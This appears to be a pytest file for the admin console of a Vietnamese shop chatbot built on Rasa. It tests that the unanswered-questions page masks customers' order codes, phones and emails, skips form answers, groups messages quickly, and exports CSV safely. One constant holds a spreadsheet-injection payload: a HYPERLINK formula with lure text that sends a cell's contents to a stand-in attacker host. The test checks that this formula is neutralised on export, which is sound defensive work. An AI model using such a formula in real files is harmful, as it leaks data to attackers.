"""The "Câu chưa hiểu" page as an attacker and a customer would notice it.

Conversations are stored by Rasa's own SQLTrackerStore (the events a form really
writes); the console runs in this process (tests/console_server.py), so these are
fast and need no trained model.
"""

import asyncio
import csv
import html
import io
import re
import time
from datetime import date, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from rasa.core.tracker_store import SQLTrackerStore
from rasa.shared.core.events import ActionExecuted, ActiveLoop, BotUttered, SessionStarted, SlotSet, UserUttered
from rasa.shared.core.trackers import DialogueStateTracker

from bench.unanswered import distinct_messages
from bot.admin import draft
from bot.admin.analytics import SHOP_TIMEZONE
from bot.admin.unanswered import _char_ngrams, _key, group_messages, unanswered
from bot.sandbox import ADMIN_PASSWORD
from tests.console_server import console_server

FORMULA = '=HYPERLINK("http://evil.example/?c="&A1,"Bấm vào đây để xác nhận")'


def fallback(text: str) -> UserUttered:
    return UserUttered(text, {"name": "nlu_fallback", "confidence": 0.3})


def form_asks(form: str, slot: str, question: str) -> list:
    asked = [SlotSet("requested_slot", slot), BotUttered(question)]
    return [ActionExecuted(form), *asked, ActionExecuted("action_listen")]


CONVERSATIONS = {
    # a cancellation form: the order code and phone are answers to its questions
    "zalo:1001": [
        SessionStarted(), ActionExecuted("action_listen"), UserUttered("huỷ đơn giúp mình", {"name": "cancel_order"}),
        ActionExecuted("cancel_order_form"), ActiveLoop("cancel_order_form"),
        *form_asks("cancel_order_form", "order_number", "Bạn cho mình xin mã đơn hàng nhé."),
        fallback("DH123456"),
        *form_asks("cancel_order_form", "ownership_answer", "Bạn cho mình xin số điện thoại đặt hàng nhé."),
        fallback("0912345678"),
        ActionExecuted("cancel_order_form"), ActiveLoop(None), SlotSet("requested_slot", None),
        ActionExecuted("action_listen"),
        fallback("shop gửi hoá đơn đỏ qua mail lan.nguyen@gmail.com được không"),
    ],
    # a question of its own, with personal data in it
    "web:2002": [
        SessionStarted(), ActionExecuted("action_listen"),
        fallback("đơn DH654321 của mình sao chưa giao, gọi 0987654321 nhé"),
    ],
    # a form left half-way; the customer comes back in a new session with a new question
    "fb:3003": [
        SessionStarted(), ActionExecuted("order_status_form"), ActiveLoop("order_status_form"),
        *form_asks("order_status_form", "order_number", "Bạn cho mình xin mã đơn hàng nhé."),
        SessionStarted(), SlotSet("requested_slot", "order_number"), ActionExecuted("action_listen"),
        fallback("shop có bán thẻ quà tặng không"),
    ],
    "web:6666": [SessionStarted(), ActionExecuted("action_listen"), fallback(FORMULA)],
}  # fmt: skip


def store(path: Path, conversations: dict[str, list]) -> None:
    """Saves each conversation through Rasa's SQL tracker store, as the Rasa server does."""
    trackers = SQLTrackerStore(dialect="sqlite", db=str(path))
    for sender, events in conversations.items():
        asyncio.run(trackers.save(DialogueStateTracker.from_events(sender, events)))
    trackers.engine.dispose()


@pytest.fixture
def console(tmp_path):
    workdir = tmp_path / "desk"
    workdir.mkdir()
    store(workdir / "trackers.db", CONVERSATIONS)
    with console_server(workdir) as server:
        yield server


def today() -> tuple[date, date]:
    day = datetime.now(SHOP_TIMEZONE).date()
    return day, day


def test_a_customers_formula_added_to_a_topic_is_exported_as_text(console) -> None:
    http, csrf, status = console.login("admin", ADMIN_PASSWORD)
    assert status in (200, 302, 303), status
    page = http.get(f"{console.url}/admin/unanswered", timeout=30).text
    form = next(f for f in re.findall(r"<form[^>]*unanswered/add.*?</form>", page, re.S) if "HYPERLINK" in f)
    texts = [html.unescape(t) for t in re.findall(r'name="text" value="([^"]*)"', form)]
    assert texts == [FORMULA]
    added = http.post(f"{console.url}/admin/unanswered/add", timeout=30,
                      data={"csrf_token": csrf, "topic": "shipping_fee", "text": texts})  # fmt: skip
    assert added.status_code == 200 and FORMULA in draft.draft().topic("shipping_fee").examples

    exported = http.get(f"{console.url}/admin/faq.csv", timeout=30)
    cells = [row[2] for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))) if "HYPERLINK" in row[2]]
    assert cells == ["'" + FORMULA]  # a spreadsheet shows it as text and runs nothing


def test_the_page_lists_no_form_answers_and_masks_personal_data(console) -> None:
    http, _, _ = console.login("admin", ADMIN_PASSWORD)
    page = http.get(f"{console.url}/admin/unanswered", timeout=30).text
    listed = re.findall(r'<li class="text">(.*?)</li>', page)
    assert "shop có bán thẻ quà tặng không" in listed  # a new session ended the old form
    for secret in ("DH123456", "0912345678", "DH654321", "0987654321", "lan.nguyen", "654321", "345678"):
        assert secret not in page
    assert "DH****56" not in page and "09******78" not in page  # the form's answers are not listed at all
    assert any("DH****21" in text and "09******21" in text for text in listed)
    assert any("l***@gmail.com" in text for text in listed)


def test_form_answers_are_left_out_when_reading_rasas_events(tmp_path) -> None:
    store(tmp_path / "trackers.db", CONVERSATIONS)
    found = unanswered(sa.create_engine(f"sqlite:///{tmp_path / 'trackers.db'}"), *today())
    texts = {text for group in found.groups for text in group.texts}
    assert sum(group.count for group in found.groups) == 4 and found.ungrouped == 0
    assert not any(text.startswith(("DH", "09")) for text in texts)


def test_the_cached_ngrams_are_scikit_learns_so_the_groups_stay_as_they_were() -> None:
    from sklearn.feature_extraction.text import TfidfVectorizer

    reference = TfidfVectorizer(analyzer="char_wb", ngram_range=(2, 4)).build_analyzer()
    keys = [_key(text) for text in [*distinct_messages(2_000), "a", "ab xyz", "o k", "tui xach giat may"]]
    assert [_char_ngrams(key) for key in keys] == [reference(key) for key in keys]


def test_many_distinct_messages_are_grouped_quickly_and_all_counted() -> None:
    messages = distinct_messages(20_000)
    started = time.perf_counter()
    found = group_messages(messages)
    assert time.perf_counter() - started < 30  # 50,000 in under 5 s: make bench-unanswered
    assert sum(group.count for group in found.groups) + found.ungrouped == 20_000
    group_of: dict[str, set[int]] = {}
    for number, group in enumerate(found.groups):
        for text in group.texts:
            group_of.setdefault(text, set()).add(number)
    marked = set().union(*(g for t, g in group_of.items() if "túi xách giặt máy" in t))
    unmarked = set().union(*(g for t, g in group_of.items() if "tui xach giat may" in t))
    assert marked & unmarked  # the same question with and without diacritics, in one group
